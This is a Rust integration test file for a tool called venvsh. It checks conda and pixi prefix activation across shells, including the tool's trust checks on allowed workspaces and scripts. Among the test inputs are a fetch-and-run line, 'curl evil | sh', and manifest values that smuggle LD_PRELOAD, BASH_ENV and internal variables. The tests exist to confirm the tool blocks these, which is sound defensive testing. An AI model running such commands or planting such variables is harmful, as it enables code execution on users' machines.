//! Issue 28 §1: conda-style prefixes in real shells. conda and pixi cannot be installed
//! here, so the prefixes are laid out as they lay them out (`conda-meta/history`,
//! `bin/python`, `conda-meta/state`, `etc/conda/{activate.d,deactivate.d}`), with conda's
//! base active as `conda activate base` leaves a shell. Each shell must run the scripts
//! in its own language, set what conda's activator sets, and on leaving put every
//! variable, PATH and the `(base)` prompt back exactly.

use crate::common;

use common::check::*;
use common::{BASE_PATH, Rc, Session, Sh, World, conda_prefix as prefix};
use std::path::Path;

mod prefixes {
    per_shell!(super::conda_and_pixi_prefixes; bash Bash, zsh Zsh, fish Fish, tcsh Tcsh, xonsh Xonsh);
}

/// Scripts in each shell's language that note, in `log`, that they ran and with which
/// `CONDA_PREFIX` (so the deactivate ones show they ran while the prefix was active),
/// set or unset `ACT_RAN`, and put `$CONDA_PREFIX/extra` on PATH or take it off, as
/// packages' scripts do (wherever it is by then, as conda's order asks of them).
fn scripts(log: &Path) -> Vec<(&'static str, String)> {
    let log = q(log);
    vec![
        (
            "etc/conda/activate.d/10-note.sh",
            format!(
                "export ACT_RAN=sh\necho \"act $CONDA_PREFIX\" >> {log}\n\
                 export PATH=\"$CONDA_PREFIX/extra:$PATH\"\n"
            ),
        ),
        (
            "etc/conda/activate.d/10-note.fish",
            format!(
                "set -gx ACT_RAN fish\necho \"act $CONDA_PREFIX\" >> {log}\n\
                 set -gx PATH $CONDA_PREFIX/extra $PATH\n"
            ),
        ),
        (
            "etc/conda/activate.d/10-note.csh",
            format!(
                "setenv ACT_RAN csh\necho \"act $CONDA_PREFIX\" >> {log}\n\
                 setenv PATH \"${{CONDA_PREFIX}}/extra:${{PATH}}\"\n"
            ),
        ),
        (
            "etc/conda/activate.d/10-note.ps1",
            "$env:ACT_RAN = 'pwsh'\n".into(),
        ),
        (
            "etc/conda/deactivate.d/10-note.sh",
            format!(
                "unset ACT_RAN\necho \"deact $CONDA_PREFIX\" >> {log}\n\
                 PATH=$(printf %s \"$PATH\" | sed \"s|$CONDA_PREFIX/extra:||\")\n"
            ),
        ),
        (
            "etc/conda/deactivate.d/10-note.fish",
            format!(
                "set -e ACT_RAN\necho \"deact $CONDA_PREFIX\" >> {log}\n\
                 set -gx PATH (string match -v -- $CONDA_PREFIX/extra $PATH)\n"
            ),
        ),
        (
            "etc/conda/deactivate.d/10-note.csh",
            format!(
                "unsetenv ACT_RAN\necho \"deact $CONDA_PREFIX\" >> {log}\n\
                 setenv PATH \"`printenv PATH | sed 's|[^:]*/extra:||'`\"\n"
            ),
        ),
    ]
}

/// The variables conda and pixi set, and the test's own, as the shell has them.
const NAMES: [&str; 12] = [
    "CONDA_PREFIX",
    "CONDA_DEFAULT_ENV",
    "CONDA_SHLVL",
    "CONDA_PROMPT_MODIFIER",
    "PIXI_PROJECT_ROOT",
    "PIXI_PROJECT_NAME",
    "PIXI_ENVIRONMENT_NAME",
    "PX_VAR",
    "STATE_VAR",
    "ACT_RAN",
    "VIRTUAL_ENV",
    "DATA_HOME",
];

fn vars(s: &mut Session) -> Vec<(String, String)> {
    // Only these lines: xonsh exports its PROMPT, which holds the harness's mark.
    // (`|| true`: none there is no failure under `set -e`.)
    let only = format!("env | grep -E '^({})=' || true", NAMES.join("|"));
    let out = String::from_utf8_lossy(&s.raw(&only)).into_owned();
    let mut v: Vec<(String, String)> = out
        .lines()
        .filter_map(|l| l.split_once('='))
        .filter(|(k, _)| NAMES.contains(k))
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect();
    v.sort();
    v
}

fn get<'a>(v: &'a [(String, String)], k: &str) -> Option<&'a str> {
    v.iter().find(|(n, _)| n == k).map(|(_, x)| x.as_str())
}

fn conda_and_pixi_prefixes(sh: Sh) {
    let w = World::new("conda");
    let base = w.p("miniforge3");
    prefix(&base, &[]);
    std::fs::create_dir_all(base.join("condabin")).unwrap();
    let log = w.p("scripts.log");

    // A pixi workspace with its default environment, variables in the prefix's state
    // and in the manifest.
    let px = w.p("px");
    std::fs::create_dir_all(px.join("src")).unwrap();
    // Taken as written, `$HOME` and all (xonsh cannot hold a `$`: behaviour.md §11).
    let px_var = if sh == Sh::Xonsh {
        "a b ~"
    } else {
        "a b $HOME"
    };
    std::fs::write(
        px.join("pixi.toml"),
        format!("[workspace]\nname = \"pix\"\nchannels = []\nplatforms = []\n\n[activation.env]\nPX_VAR = \"{px_var}\"\n"),
    )
    .unwrap();
    let pxenv = px.join(".pixi/envs/default");
    prefix(&pxenv, &scripts(&log));
    std::fs::write(
        pxenv.join("conda-meta/state"),
        r#"{"env_vars": {"state_var": "it's \"quoted\""}}"#,
    )
    .unwrap();

    // A conda project whose environment.yml names an env in base's envs folder, which
    // has scripts for PowerShell only.
    let cp = w.p("cp");
    std::fs::create_dir_all(&cp).unwrap();
    std::fs::write(
        cp.join("environment.yml"),
        "name: data\ndependencies:\n  - python\n",
    )
    .unwrap();
    let data = base.join("envs/data");
    prefix(
        &data,
        &[("etc/conda/activate.d/x.ps1", "$env:X = 1\n".to_string())],
    );
    std::fs::write(
        data.join("conda-meta/state"),
        r#"{"env_vars": {"DATA_HOME": "/srv/data"}}"#,
    )
    .unwrap();
    let env = [("CONDA_EXE", base.join("bin/conda"))];
    let env: Vec<(&str, &str)> = env.iter().map(|(k, v)| (*k, v.to_str().unwrap())).collect();
    for d in [&px, &cp] {
        let out = w.venvsh_env(&["allow"], d, &env);
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
    }

    let base_vars = [
        ("CONDA_PREFIX", base.to_str().unwrap()),
        ("CONDA_DEFAULT_ENV", "base"),
        ("CONDA_SHLVL", "1"),
        ("CONDA_PROMPT_MODIFIER", "(base) "),
        ("CONDA_EXE", env[0].1),
    ];
    let path = format!(
        "{}:{}",
        base.join("bin").display(),
        String::from_utf8_lossy(BASE_PATH)
    );
    let mut pre: String = base_vars
        .iter()
        .chain([("PATH", path.as_str())].iter())
        .map(|(k, v)| match sh {
            Sh::Tcsh | Sh::Csh => format!("setenv {k} {}\n", q(Path::new(v))),
            Sh::Xonsh => format!("${k} = {v:?}\n"),
            _ => format!("export {k}={}\n", q(Path::new(v))),
        })
        .collect();
    pre.push_str(match sh {
        Sh::Fish => "function fish_prompt; printf '(base) ::vs:: '; end\n",
        Sh::Tcsh | Sh::Csh => "set prompt = '(base) ::vs:: '\n",
        Sh::Xonsh => "$PROMPT = '(base) ::vs:: '\n$RIGHT_PROMPT = ''\n",
        _ => "PS1='(base) ::vs:: '\n",
    });
    let rc = Rc {
        pre,
        own_prompt: true,
        ..Rc::default()
    };
    let text = |b: &[u8]| String::from_utf8_lossy(b).into_owned();
    let logged = || std::fs::read_to_string(&log).unwrap_or_default();
    let mut s = Session::start(&w, sh, &rc);
    let before = vars(&mut s);
    assert_eq!(
        get(&before, "CONDA_DEFAULT_ENV"),
        Some("base"),
        "{before:?}"
    );

    // Into the pixi workspace.
    let snap = s.cd(&px.join("src"));
    let v = vars(&mut s);
    // xonsh runs the `.sh` ones, through `source-bash`, as conda's xonsh activator does.
    let ran = match sh {
        Sh::Fish => "fish",
        Sh::Tcsh | Sh::Csh => "csh",
        _ => "sh",
    };
    let pxs = pxenv.to_str().unwrap();
    assert_eq!(get(&v, "CONDA_PREFIX"), Some(pxs), "{}", snap.out());
    assert_eq!(get(&v, "CONDA_DEFAULT_ENV"), Some("pix"));
    assert_eq!(get(&v, "PIXI_PROJECT_ROOT"), Some(px.to_str().unwrap()));
    assert_eq!(get(&v, "PIXI_PROJECT_NAME"), Some("pix"));
    assert_eq!(get(&v, "PIXI_ENVIRONMENT_NAME"), Some("default"));
    assert_eq!(get(&v, "PX_VAR"), Some(px_var), "taken as written");
    assert_eq!(get(&v, "STATE_VAR"), Some("it's \"quoted\""));
    assert_eq!(get(&v, "ACT_RAN"), Some(ran), "its activate.d script ran");
    assert_eq!(get(&v, "VIRTUAL_ENV"), None, "conda sets no VIRTUAL_ENV");
    assert_eq!(logged(), format!("act {pxs}\n"));
    assert_eq!(text(&snap.path), format!("{pxs}/extra:{pxs}/bin:{path}"));
    assert_eq!(text(&snap.prompt), "(pix) (base) ::vs:: ");
    let which = text(&s.raw("sh -c 'command -v python'"));
    assert_eq!(
        which.trim(),
        format!("{pxs}/bin/python"),
        "python is the env's"
    );

    // Inside it nothing runs again.
    s.cd(&px);
    assert_eq!(logged(), format!("act {pxs}\n"));

    // To the conda project: pixi's env goes first, its deactivate.d script while it is
    // still active; the conda env has scripts for PowerShell only, which is said.
    let snap = s.cd(&cp);
    let v = vars(&mut s);
    let datas = data.to_str().unwrap();
    assert_eq!(get(&v, "CONDA_PREFIX"), Some(datas), "{}", snap.out());
    assert_eq!(get(&v, "CONDA_DEFAULT_ENV"), Some("data"));
    // (The terminal's line loses its trailing blank.)
    assert_eq!(
        get(&v, "CONDA_PROMPT_MODIFIER").map(str::trim_end),
        Some("(data)")
    );
    assert_eq!(get(&v, "DATA_HOME"), Some("/srv/data"));
    for gone in ["PIXI_PROJECT_ROOT", "PX_VAR", "STATE_VAR", "ACT_RAN"] {
        assert_eq!(get(&v, gone), None, "{gone}");
    }
    assert_eq!(logged(), format!("act {pxs}\ndeact {pxs}\n"));
    assert_eq!(text(&snap.path), format!("{datas}/bin:{path}"));
    assert_eq!(text(&snap.prompt), "(data) (base) ::vs:: ");
    let lines = snap.venvsh_lines();
    assert!(
        lines
            .iter()
            .any(|l| l.contains("scripts for other shells only (.ps1)")),
        "{lines:?}"
    );

    // Out: base exactly as it was.
    let snap = s.cd(&w.root);
    assert_eq!(vars(&mut s), before, "{}", snap.out());
    assert_eq!(text(&snap.path), path);
    assert_eq!(text(&snap.prompt), "(base) ::vs:: ");
}

/// A prefix in a cloned repository (pixi's `.pixi/envs/default` is one) is trusted as a
/// venv is: not until allowed, never when its scripts' folder is writable by others; and
/// what it holds is read one bounded way (a FIFO as a script or as `conda-meta/state`
/// is passed over, never waited on).
#[test]
fn a_prefix_is_trusted_and_read_as_a_venv_is() {
    let w = World::new("conda-trust");
    let px = w.p("px");
    std::fs::create_dir_all(&px).unwrap();
    std::fs::write(px.join("pixi.toml"), "[workspace]\nname = \"px\"\n").unwrap();
    let env = px.join(".pixi/envs/default");
    prefix(
        &env,
        &[("etc/conda/activate.d/a.sh", "export A=1\n".to_string())],
    );
    let export = || export_in(&w, "bash", &px);
    let (code, err) = export();
    assert!(!code.contains("CONDA_PREFIX"), "{code}");
    assert!(
        err.contains("pixi env .pixi/envs/default found in px but not allowed"),
        "{err}"
    );

    let out = w.venvsh_env(&["allow"], &px, &[]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let (code, _) = export();
    assert!(
        code.contains("export CONDA_PREFIX=") && code.contains("/a.sh'"),
        "{code}"
    );

    use std::os::unix::fs::PermissionsExt;
    let scripts = env.join("etc/conda/activate.d");
    std::fs::set_permissions(&scripts, std::fs::Permissions::from_mode(0o775)).unwrap();
    let (code, err) = export();
    assert!(!code.contains("CONDA_PREFIX"), "{code}");
    assert!(err.contains("activate.d is writable by its group"), "{err}");
    std::fs::set_permissions(&scripts, std::fs::Permissions::from_mode(0o755)).unwrap();

    for fifo in [scripts.join("b.sh"), env.join("conda-meta/state")] {
        nix::unistd::mkfifo(&fifo, nix::sys::stat::Mode::from_bits_truncate(0o600)).unwrap();
    }
    let (code, err) = export();
    assert!(
        code.contains("/a.sh'") && !code.contains("/b.sh'"),
        "{code}"
    );
    assert!(
        err.contains("conda-meta/state: it is a FIFO") && err.lines().count() <= 2,
        "{err}"
    );

    // pixi's own activation scripts are the project's files, checked the same way.
    std::fs::write(
        px.join("pixi.toml"),
        "[workspace]\nname = \"px\"\n[activation]\nscripts = [\"setup.sh\"]\n",
    )
    .unwrap();
    std::fs::write(px.join("setup.sh"), "export SETUP=1\n").unwrap();
    std::fs::set_permissions(px.join("setup.sh"), std::fs::Permissions::from_mode(0o664)).unwrap();
    // A new [activation] asks again (an_allow_covers_pixis_activation); allowed, its
    // script's permissions are checked.
    let (_, err) = export();
    assert!(err.contains("pixi [activation]"), "{err}");
    assert!(w.venvsh(&["allow"], &px).status.success());
    let (code, err) = export();
    assert!(!code.contains("CONDA_PREFIX"), "{code}");
    assert!(err.contains("setup.sh is writable by its group"), "{err}");
    std::fs::set_permissions(px.join("setup.sh"), std::fs::Permissions::from_mode(0o644)).unwrap();
    let (code, _) = export();
    assert!(code.contains("/px/setup.sh'"), "{code}");
}

mod by_hand {
    per_shell!(super::a_prefix_by_hand; bash Bash, fish Fish);
}

/// `venvsh activate PREFIX` activates a conda prefix by hand (no allow needed: you asked),
/// pinned across a `cd`; `deactivate` puts the shell back as it was.
fn a_prefix_by_hand(sh: Sh) {
    let w = World::new("conda-hand");
    let data = w.p("envs/data");
    let log = w.p("left.log");
    prefix(
        &data,
        &[(
            "etc/conda/deactivate.d/x.sh",
            format!("echo \"left $CONDA_PREFIX\" >> {}\n", q(&log)),
        )],
    );
    std::fs::write(
        data.join("conda-meta/state"),
        r#"{"env_vars": {"DATA_HOME": "/srv/data"}}"#,
    )
    .unwrap();
    let mut s = Session::start(&w, sh, &Rc::default());
    let before = vars(&mut s);
    let snap = s.run(&format!("venvsh activate {}", q(&data)));
    let v = vars(&mut s);
    assert_eq!(get(&v, "CONDA_PREFIX"), data.to_str(), "{}", snap.out());
    assert_eq!(get(&v, "CONDA_DEFAULT_ENV"), Some("data"));
    assert_eq!(get(&v, "DATA_HOME"), Some("/srv/data"));
    let snap = s.cd(&w.root);
    assert_eq!(
        String::from_utf8_lossy(&snap.path),
        format!(
            "{}/bin:{}",
            data.display(),
            String::from_utf8_lossy(BASE_PATH)
        ),
        "pinned across a cd"
    );
    let snap = s.run("deactivate");
    assert_eq!(String::from_utf8_lossy(&snap.path).as_bytes(), BASE_PATH);
    assert_eq!(vars(&mut s), before, "{}", snap.out());
    // bash ran the `.sh` script while the prefix was still active; fish has none of its own.
    let logged = std::fs::read_to_string(&log).unwrap_or_default();
    match sh {
        Sh::Fish => assert_eq!(logged, ""),
        _ => assert_eq!(logged, format!("left {}\n", data.display())),
    }
}

mod strict {
    per_shell!(super::a_failing_script_and_a_deleted_prefix; bash Bash, zsh Zsh, fish Fish, tcsh Tcsh);
}

/// Under the user options behaviour.md §10 names (bash's `set -euo pipefail`, zsh's
/// NO_UNSET …): an activate.d script that fails, and one that is gone by the time the
/// prefix is left, neither end the shell nor stop the switch; a prefix deleted while
/// active is left at the next prompt, its deactivate.d scripts gone with it.
fn a_failing_script_and_a_deleted_prefix(sh: Sh) {
    let w = World::new("conda-strict");
    let log = w.p("log");
    let px = w.p("px");
    std::fs::create_dir_all(&px).unwrap();
    std::fs::write(px.join("pixi.toml"), "[workspace]\nname = \"px\"\n").unwrap();
    let env = px.join(".pixi/envs/default");
    let fail = |ext: &str| match ext {
        "fish" => format!("echo ran >> {}\nfalse\n", q(&log)),
        "csh" => format!("echo ran >> {}\nfalse\n", q(&log)),
        _ => format!("echo ran >> {}\nfalse\necho \"$UNSET_VAR_HERE\"\n", q(&log)),
    };
    prefix(
        &env,
        &[
            ("etc/conda/activate.d/a.sh", fail("sh")),
            ("etc/conda/activate.d/a.fish", fail("fish")),
            ("etc/conda/activate.d/a.csh", fail("csh")),
            ("etc/conda/deactivate.d/z.sh", fail("sh")),
            ("etc/conda/deactivate.d/z.fish", fail("fish")),
            ("etc/conda/deactivate.d/z.csh", fail("csh")),
        ],
    );
    let out = w.venvsh_env(&["allow"], &px, &[]);
    assert!(out.status.success());
    let rc = Rc {
        pre: sh.strict_options().into(),
        ..Rc::default()
    };
    let mut s = Session::start(&w, sh, &rc);
    let before = vars(&mut s);
    let logged = || std::fs::read_to_string(&log).unwrap_or_default();

    // A failing activate.d script: the shell lives, the prefix is active.
    s.cd(&px);
    assert!(s.alive(), "the shell survived a failing script");
    assert_eq!(get(&vars(&mut s), "CONDA_PREFIX"), env.to_str());
    assert_eq!(logged(), "ran\n");

    // Its deactivate.d script removed meanwhile: leaving skips it.
    for ext in ["sh", "fish", "csh"] {
        std::fs::remove_file(env.join(format!("etc/conda/deactivate.d/z.{ext}"))).unwrap();
    }
    let snap = s.cd(&w.root);
    assert!(s.alive());
    assert_eq!(vars(&mut s), before, "{}", snap.out());
    assert_eq!(snap.path, BASE_PATH);

    // Deleted while active: left at the next prompt, nothing of it run.
    std::fs::write(env.join("etc/conda/deactivate.d/z.sh"), fail("sh")).unwrap();
    std::fs::write(env.join("etc/conda/deactivate.d/z.fish"), fail("fish")).unwrap();
    std::fs::write(env.join("etc/conda/deactivate.d/z.csh"), fail("csh")).unwrap();
    s.cd(&px);
    assert_eq!(logged(), "ran\nran\n");
    std::fs::remove_dir_all(px.join(".pixi")).unwrap();
    let snap = s.run("true");
    assert!(s.alive());
    assert_eq!(vars(&mut s), before, "{}", snap.out());
    assert_eq!(snap.path, BASE_PATH);
    assert_eq!(logged(), "ran\nran\n", "no script of a prefix that is gone");
}

/// Issue 34 §1: a prefix's own variables (`[activation.env]`, `env_vars.d`,
/// `conda-meta/state`) never set what a shell or venvsh's code in it keeps
/// (`__venvsh_bin`, nushell's `__VENVSH`, zsh's `argv`), in any shell; and where no
/// activation script runs (elvish, nushell, Clink, `venvsh env`), never what would run code at
/// a start (`LD_PRELOAD`). The rest of the prefix is set, with one line for
/// each name passed over.
#[test]
fn a_prefix_never_sets_what_a_shell_keeps() {
    let w = World::new("conda-kept");
    let px = allowed_pixi(
        &w,
        "[activation.env]\n__venvsh_bin = \"/tmp/evil\"\n__VENVSH = \"x\"\nargv = \"x\"\nLD_PRELOAD = \"/tmp/evil.so\"\nBASH_ENV = \"/tmp/evil.sh\"\nFINE = \"yes\"\n",
        &[],
        &[],
    );
    for shell in [
        "bash", "zsh", "fish", "tcsh", "pwsh", "cmd", "xonsh", "elvish", "nu", "clink",
    ] {
        let (code, err) = export_in(&w, shell, &px);
        assert!(code.contains("FINE"), "{shell}: {code}");
        // BASH_ENV: bash's own name, kept in every shell.
        for kept in ["/tmp/evil'", "\"/tmp/evil\"", "argv", "/tmp/evil.sh"] {
            assert!(!code.contains(kept), "{shell} set {kept}: {code}");
        }
        assert!(
            err.contains("not setting the variable '__venvsh_bin'")
                && err.contains("not setting the variable '__VENVSH'"),
            "{shell}: {err}"
        );
        let runs_scripts = !["elvish", "nu", "clink"].contains(&shell);
        assert_eq!(
            code.contains("/tmp/evil.so"),
            runs_scripts,
            "{shell}: {code}"
        );
    }
    let out = w.venvsh(&["env", "--format", "json"], &px);
    let json = String::from_utf8_lossy(&out.stdout);
    assert!(
        json.contains("FINE") && !json.contains("evil") && !json.contains("argv"),
        "{json}"
    );
}

/// Issue 34 §2: a prefix made again (`rm -rf .pixi/envs/default`, then made anew, its
/// folders perhaps with their inodes back) asks again, as a venv made again does; its new
/// `activate.d` scripts do not run until then.
#[test]
fn a_prefix_made_again_asks_again() {
    let w = World::new("conda-again");
    let px = allowed_pixi(
        &w,
        "",
        &[],
        &[("etc/conda/activate.d/a.sh", "export A=1\n".to_string())],
    );
    let env = px.join(".pixi/envs/default");
    let export = || export_in(&w, "bash", &px);
    let (code, _) = export();
    assert!(code.contains("/a.sh'"), "{code}");
    std::fs::remove_dir_all(&env).unwrap();
    prefix(
        &env,
        &[("etc/conda/activate.d/b.sh", "export B=1\n".to_string())],
    );
    let (code, err) = export();
    assert!(
        !code.contains("/b.sh'") && !code.contains("CONDA_PREFIX"),
        "{code}"
    );
    assert!(err.contains("was made again since it was allowed"), "{err}");
    assert!(w.venvsh(&["allow"], &px).status.success());
    let (code, _) = export();
    assert!(code.contains("/b.sh'"), "{code}");
}

/// A pixi workspace `px` in `w`, allowed: its manifest (`[workspace]` named px, then
/// `rest`), the files of the workspace `files` names, and its prefix laid out with
/// `prefix_files`.
fn allowed_pixi(
    w: &World,
    rest: &str,
    files: &[(&str, &str)],
    prefix_files: &[(&str, String)],
) -> std::path::PathBuf {
    let px = w.p("px");
    std::fs::create_dir_all(&px).unwrap();
    std::fs::write(
        px.join("pixi.toml"),
        format!("[workspace]\nname = \"px\"\n{rest}"),
    )
    .unwrap();
    for (name, body) in files {
        std::fs::write(px.join(name), body).unwrap();
    }
    prefix(&px.join(".pixi/envs/default"), prefix_files);
    assert!(w.venvsh(&["allow"], &px).status.success());
    px
}

/// `venvsh export SHELL` in `dir`: the code it prints, and its lines.
fn export_in(w: &World, shell: &str, dir: &Path) -> (String, String) {
    let out = common::timeout(&mut w.command(&["export", shell], dir), 20);
    (
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// Issue 34 §7: pixi's docs list `.sh` and `.bash` for its activation scripts; bash runs
/// a `.bash` one, zsh does not (its scripts are conda's `.sh`).
#[test]
fn pixis_bash_scripts_run_in_bash() {
    let w = World::new("pixi-bash");
    let px = allowed_pixi(
        &w,
        "[activation]\nscripts = [\"setup.bash\"]\n",
        &[("setup.bash", "export SETUP=1\n")],
        &[],
    );
    let (code, _) = export_in(&w, "bash", &px);
    assert!(code.contains("/setup.bash'"), "{code}");
    let (code, err) = export_in(&w, "zsh", &px);
    assert!(!code.contains("/setup.bash'"), "{code}");
    assert!(err.contains("scripts for other shells only"), "{err}");
}

/// Issue 34 §7: `venvsh env --format dotenv` gave nothing for any conda or pixi env
/// (its prompt strings end in a blank); it leaves those two out and writes the rest.
#[test]
fn dotenv_holds_a_prefix_without_its_prompt_strings() {
    let w = World::new("conda-dotenv");
    let px = allowed_pixi(&w, "", &[], &[]);
    let out = w.venvsh(&["env", "--format", "dotenv"], &px);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        text.contains("CONDA_PREFIX=") && text.contains("PIXI_PROJECT_NAME=px"),
        "{text}"
    );
    assert!(
        !text.contains("PIXI_PROMPT") && !text.contains("CONDA_PROMPT_MODIFIER"),
        "{text}"
    );
}

/// Issue 34 §2: an allow of a pixi workspace covers its `[activation]` table and the
/// scripts it names, as direnv's covers an `.envrc`: a `git pull` that changes a script
/// or a variable asks again and runs nothing; a new dependency in the manifest does not.
#[test]
fn an_allow_covers_pixis_activation() {
    let w = World::new("pixi-allow");
    let px = w.p("px");
    std::fs::create_dir_all(&px).unwrap();
    let manifest = |extra: &str, value: &str| {
        std::fs::write(
            px.join("pixi.toml"),
            format!(
                "[workspace]\nname = \"px\"\n{extra}[activation]\nscripts = [\"setup.sh\"]\n[activation.env]\nV = \"{value}\"\n"
            ),
        )
        .unwrap();
    };
    manifest("", "1");
    std::fs::write(px.join("setup.sh"), "export SETUP=1\n").unwrap();
    prefix(&px.join(".pixi/envs/default"), &[]);
    assert!(w.venvsh(&["allow"], &px).status.success());
    let active = || export_in(&w, "bash", &px).0.contains("/setup.sh'");
    assert!(active());
    manifest("[dependencies]\npython = \"3.12.*\"\n", "1");
    assert!(active(), "a new dependency keeps the allow");
    std::fs::write(px.join("setup.sh"), "curl evil | sh\n").unwrap();
    let (code, err) = export_in(&w, "bash", &px);
    assert!(
        !code.contains("CONDA_PREFIX") && !code.contains("setup.sh"),
        "{code}"
    );
    assert!(
        err.contains("pixi [activation] (its variables or scripts) changed"),
        "{err}"
    );
    assert!(w.venvsh(&["allow"], &px).status.success());
    assert!(active());
    manifest("", "2");
    assert!(!active(), "a changed variable asks again");
    let status = String::from_utf8_lossy(&w.venvsh(&["status"], &px).stdout).into_owned();
    assert!(status.contains("changed since it was allowed"), "{status}");
}

/// Issue 34 §2, after a review: a script the manifest names twice runs once (and is read
/// once for the allow's digest); a script larger than venvsh reads is refused rather
/// than run unseen.
#[test]
fn pixis_scripts_once_each_and_none_unseen() {
    let w = World::new("pixi-big");
    let px = allowed_pixi(
        &w,
        "[activation]\nscripts = [\"setup.sh\", \"setup.sh\"]\n",
        &[("setup.sh", "export SETUP=1\n")],
        &[],
    );
    let (code, err) = export_in(&w, "bash", &px);
    assert_eq!(code.matches("/setup.sh'").count(), 2, "{code}{err}"); // `[[ -f ]]` and `.`
    let f = std::fs::OpenOptions::new()
        .write(true)
        .open(px.join("setup.sh"))
        .unwrap();
    f.set_len(5 << 20).unwrap();
    assert!(w.venvsh(&["allow"], &px).status.success());
    let (code, err) = export_in(&w, "bash", &px);
    assert!(!code.contains("setup.sh"), "{code}");
    assert!(
        err.contains("is larger than the 4 MiB venvsh reads of a script"),
        "{err}"
    );
}
